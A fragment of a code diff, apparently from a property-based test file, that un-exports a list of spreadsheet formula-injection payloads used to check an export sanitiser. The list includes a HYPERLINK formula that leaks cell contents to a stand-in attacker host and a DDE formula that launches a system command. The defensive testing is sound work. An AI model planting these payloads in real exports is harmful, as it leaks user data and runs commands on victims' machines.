@@ -2,7 +2,7 @@ import fc from 'fast-check';
 import { inertText } from './formula.policy';
 
 /** What has been used against exports: operators, full-width forms, leading blanks, quotes, invisible characters. */
-export const FORMULAS = [
+const FORMULAS = [
   '=1+1',
   '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
   "=cmd|'/C calc'!A0",
